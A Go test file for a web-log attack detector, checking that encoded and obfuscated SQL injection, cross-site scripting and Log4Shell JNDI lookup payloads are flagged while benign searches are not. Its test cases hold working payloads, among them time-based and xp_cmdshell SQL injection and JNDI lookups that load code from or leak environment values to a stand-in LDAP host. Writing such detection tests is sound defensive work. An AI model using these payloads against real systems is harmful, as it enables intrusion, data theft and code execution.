package detect

import (
	"math/rand/v2"
	"net/url"
	"strings"
	"testing"
)

// findings runs the per-request analyses on one request line (target, user
// agent, referer).
func findings(t *testing.T, target, ua, referer string) (sqli, xss, jndi bool) {
	t.Helper()
	rules, err := Builtin()
	if err != nil {
		t.Fatal(err)
	}
	e, _ := entry("192.0.2.1", "GET", target, 200, 0, ua)
	e.Referer = []byte(referer)
	var r request
	r.reset(&e, rules)
	_, sqli = r.sqli()
	_, xss = r.xss()
	_, jndi = r.log4shell()
	return
}

// TestInjection_PayloadFamilies: each family of payload is found as it is
// sent, URL-encoded, double-encoded, with inline comments and in mixed
// case, in a parameter, the path, the user agent or the referer.
func TestInjection_PayloadFamilies(t *testing.T) {
	enc := url.QueryEscape
	for _, tc := range []struct {
		family, target, ua, referer string
		sqli, xss                   bool
	}{
		{family: "sqli plain", target: "/item?id=1'+OR+'1'='1", sqli: true},
		{family: "sqli plain union", target: "/item?id=-1+UNION+SELECT+1,2,3--+-", sqli: true},
		{family: "sqli encoded", target: "/item?id=" + enc("1' UNION SELECT NULL,version()-- -"), sqli: true},
		{family: "sqli double encoded", target: "/item?id=" + enc(enc("1' AND 2>1-- -")), sqli: true},
		{family: "sqli commented keywords", target: "/item?id=" + enc("1 UN/**/ION SEL/**/ECT 1,2,3"), sqli: true},
		{family: "sqli executable comments", target: "/item?id=" + enc("1 /*!50000UNION*/ /*!50000SELECT*/ 1,2"), sqli: true},
		{family: "sqli mixed case", target: "/item?id=" + enc("1' uNiOn SeLeCt 1,2,3-- -"), sqli: true},
		{family: "sqli extractvalue", target: "/item?id=" + enc("1' AnD eXtRaCtVaLuE(1,CoNcAt(0x5c,(SeLeCt @@version)))-- -"), sqli: true},
		{family: "sqli updatexml", target: "/item?id=" + enc("1 AND updatexml(1,concat(0x7e,user()),1)"), sqli: true},
		{family: "sqli waitfor stacked", target: "/item?id=" + enc(";waitfor delay '0:0:5'--"), sqli: true},
		{family: "sqli waitfor", target: "/item?id=" + enc("1'; WAITFOR DELAY '0:0:5'--"), sqli: true},
		{family: "sqli sleep", target: "/item?id=" + enc("1 AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)"), sqli: true},
		{family: "sqli in the path", target: "/products/1'%20OR%20'1'='1", sqli: true},
		{family: "sqli in a parameter name", target: "/item?" + enc("1' or '1'='1") + "=x", sqli: true},
		{family: "sqli in the user agent", target: "/", ua: "Mozilla/5.0' AND SLEEP(5)#", sqli: true},
		{family: "sqli escaped quote in the user agent", target: "/", ua: `Mozilla/5.0\' or '1'='1`, sqli: true},
		{family: "sqli in the referer", target: "/", referer: "' OR 1=1-- -", sqli: true},
		{family: "sqli in the referer's query", target: "/", referer: "https://example.org/p?id=" + enc("1' UNION SELECT NULL-- -"), sqli: true},
		{family: "xss plain", target: "/search?q=<script>alert(1)</script>", xss: true},
		{family: "xss encoded", target: "/search?q=" + enc(`"><img src=x onerror=prompt(1)>`), xss: true},
		{family: "xss double encoded", target: "/search?q=" + enc(enc("<svg/onload=alert(1)>")), xss: true},
		{family: "xss mixed case", target: "/search?q=" + enc("<ScRiPt>alert(1)</sCrIpT>"), xss: true},
		{family: "xss ontoggle", target: "/search?q=" + enc("<details open ontoggle=alert(1)>"), xss: true},
		{family: "xss onpointerenter", target: "/search?q=" + enc("<img src=1 onpointerenter=alert(1)>"), xss: true},
		{family: "xss onfocus", target: "/search?q=" + enc("<input autofocus onfocus=alert(1)>"), xss: true},
		{family: "xss attribute break-out", target: "/search?q=" + enc(`" onmouseover="alert(1)`), xss: true},
		{family: "xss javascript: split by a tab", target: "/go?url=java%09script:alert(1)", xss: true},
		{family: "xss javascript: split by a newline", target: "/go?url=java%0Ascript:alert(document.cookie)", xss: true},
		{family: "xss javascript: with a control byte first", target: "/go?url=%01javascript:alert(1)", xss: true},
		{family: "xss javascript: split by an entity", target: "/go?url=" + enc("java&#x09;script:alert(1)"), xss: true},
		{family: "xss entities", target: "/search?q=" + enc("&lt;script&gt;alert(1)&lt;/script&gt;"), xss: true},
		{family: "xss colon entity", target: "/search?q=" + enc("<a href=javascript&colon;alert(1)>x</a>"), xss: true},
		{family: "xss in the path", target: "/%3Cscript%3Ealert(1)%3C/script%3E", xss: true},
		{family: "xss in the user agent", target: "/", ua: "<script>alert(1)</script>", xss: true},
		{family: "xss in the referer", target: "/", referer: `"><svg onload=alert(1)>`, xss: true},
	} {
		ua := tc.ua
		if ua == "" {
			ua = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"
		}
		sqli, xss, _ := findings(t, tc.target, ua, tc.referer)
		if tc.sqli && !sqli || tc.xss && !xss {
			t.Errorf("%s: %s (ua %q, referer %q): sqli %v xss %v", tc.family, tc.target, tc.ua, tc.referer, sqli, xss)
		}
	}
}

// TestInjection_Benign: words people type into a search box, product names
// and ordinary headers are not injections.
func TestInjection_Benign(t *testing.T) {
	for _, q := range []string{"select the best union", "<b>bold</b> tutorial", "<i>italic</i>", "how to write <script> tags",
		"case (black) for grinder", "is 'or' better than 'and' for filters", "O'Reilly", "Tom's diner", "rock & roll", "AT&T",
		"it's 5 o'clock", "C++ -- tutorial", "1=1 coffee to water ratio", "50% off", "a < b and b > c", "SELECT * FROM users",
		"drop table", "union-selection-guide", "javascript: the good parts", "\"quoted search\"", "price > 100", "<3 love",
		"(555) 123-4567", "john.doe@example.com", "don't drop the portafilter", "best union select blend", "order by name",
		"what's the difference between a latte and a flat white", "#1 rated espresso machine", "<br> in product names",
		"<a href=\"https://example.com\">link</a>", "waitfor delivery", "sleep and caffeine"} {
		sqli, xss, jndi := findings(t, "/search?q="+url.QueryEscape(q), "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36", "https://www.google.com/search?q="+url.QueryEscape(q))
		if sqli || xss || jndi {
			t.Errorf("%q: sqli %v xss %v log4shell %v", q, sqli, xss, jndi)
		}
	}
	for _, ua := range []string{"Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)",
		"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "curl/8.5.0", "python-requests/2.32.3",
		"Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1"} {
		if sqli, xss, jndi := findings(t, "/", ua, "-"); sqli || xss || jndi {
			t.Errorf("user agent %q: sqli %v xss %v log4shell %v", ua, sqli, xss, jndi)
		}
	}
}

// TestJNDILookup resolves Log4j's lookup syntax as Log4j would.
func TestJNDILookup(t *testing.T) {
	for _, tc := range []struct {
		text string
		want bool
	}{
		{"${jndi:ldap://x.example/a}", true},
		{"${JNDI:ldap://x.example/a}", true},
		{"${${lower:j}ndi:ldap://x}", true},
		{"${${upper:j}${upper:n}${lower:d}i:rmi://x}", true},
		{"${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://x/a}", true},
		{"${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x/a}", true},
		{"${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x/a}", true},
		{"${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x/a}", true},
		{"Mozilla/5.0 ${jndi:ldap://x/${env:USER}}", true},
		{"${jndi:ldap://x", true}, // unclosed, still sent to a logger
		{"${env:HOME}", false},
		{"${lower:JNDI}", false}, // the word, not a lookup
		{"price ${amount}", false},
		{"$5 {shipping}", false},
		{strings.Repeat("${", 500) + "jndi:x", true},
		{strings.Repeat("${a}", 500), false},
	} {
		_, got := jndiLookup(tc.text)
		if got != tc.want {
			t.Errorf("jndiLookup(%.60q) = %v, want %v", tc.text, got, tc.want)
		}
	}
	for _, target := range []string{"/?x=%24%7Bjndi%3Aldap%3A%2F%2Fx%7D", "/?x=%2524%257B%2524%257Blower%253Aj%257Dndi%253Aldap%253A%252F%252Fx%257D",
		"/a/${jndi:ldap://x/a}", "/a/%24%7Bjndi:ldap://x/a%7D"} {
		if _, _, jndi := findings(t, target, "ua", "-"); !jndi {
			t.Errorf("%s: no JNDI lookup found", target)
		}
	}
	// In each field alone, as logged and escaped: a field is looked into
	// when it has a '$' or an escape, whatever the others hold.
	for _, tc := range []struct{ target, ua, referer string }{
		{"/", "${jndi:ldap://x/a}", "-"}, {"/", "%24%7Bjndi:ldap://x/a%7D", "-"},
		{"/", "ua", "http://r/${jndi:ldap://x/a}"}, {"/", "ua", "http://r/%24%7Bjndi:ldap://x/a%7D"},
		{"/%41", "ua", "http://r/${jndi:ldap://x/a}"}, {"/%41", "${jndi:ldap://x/a}", "-"},
	} {
		if _, _, jndi := findings(t, tc.target, tc.ua, tc.referer); !jndi {
			t.Errorf("%+v: no JNDI lookup found", tc)
		}
	}
}

func FuzzJNDILookup(f *testing.F) {
	for _, s := range []string{"${jndi:x}", "${${::-j}ndi:x}", "${${${", "}}}${", "${a:-${b:-${c}}}"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		jndiLookup(s) // terminates, never panics
	})
}

func FuzzInjection(f *testing.F) {
	for _, s := range []string{"1' or '1'='1", "<svg onload=alert(1)>", "%252527", "&#x3c;", "/*!50000", "java%09script:"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		v := normalise(s, true)
		isSQLi(v)
		isXSS(v)
		stripComments(v)
	})
}

// TestSQLSignatures_PrefilterHidesNoMatch: every alternative of
// sqlSignatures matches its sample, and mayBeSignature lets each through;
// a value without any of the words is one the expression cannot match.
func TestSQLSignatures_PrefilterHidesNoMatch(t *testing.T) {
	samples := []string{
		`1 waitfor delay '0:0:5'`, `1 waitfor time "1`,
		`and extractvalue(1,concat(0x7e,version()))`, `updatexml (1,1,1)`,
		`1;select pg_sleep(5)`, `dbms_pipe.receive_message(('a'),5)`,
		`benchmark(5000000,md5(1))`, `1 and sleep(5)`, `1' or sleep (3)`, `x)sleep(1`,
		`1 union select null,null`, `1 union all select @@version`, `-1 union distinct select concat(1)`,
		`1; drop table users`, `1;shutdown`, `a ;  exec xp_cmdshell`,
	}
	for _, s := range samples {
		if sqlSignatures.FindString(s) == "" {
			t.Errorf("%q: sqlSignatures does not match its sample", s)
		}
		if !mayBeSignature(s) {
			t.Errorf("%q: matches sqlSignatures but mayBeSignature turns it away", s)
		}
	}
	// Mutations of each sample with the words spelled otherwise must match
	// neither, or the prefilter would hide what the expression finds.
	for _, s := range samples {
		m := strings.NewReplacer(";", ",", "waitfor", "wait for", "extractvalue", "extract", "updatexml", "update",
			"sleep", "slp", "dbms_pipe", "dbms", "benchmark", "bench", "union", "onion").Replace(s)
		if mayBeSignature(m) {
			t.Errorf("%q: mayBeSignature lets through a value with none of the words", m)
		}
		if got := sqlSignatures.FindString(m); got != "" {
			t.Errorf("%q: sqlSignatures matches %q with none of signatureWords: add its literal to them", m, got)
		}
	}
}

// TestClassesOf: the interleaved runs give the union a byte at a time
// gives, whatever the length and wherever the classed bytes lie.
func TestClassesOf(t *testing.T) {
	r := rand.New(rand.NewPCG(5, 6))
	for range 20_000 {
		b := make([]byte, r.IntN(40))
		for i := range b {
			const pick = "abc/-*%&$'\"<>();= \xe9"
			b[i] = pick[r.IntN(len(pick))]
		}
		var want uint8
		for _, c := range b {
			want |= headerClass[c]
		}
		if got := classesOf(b); got != want {
			t.Fatalf("classesOf(%q) = %08b, want %08b", b, got, want)
		}
	}
}
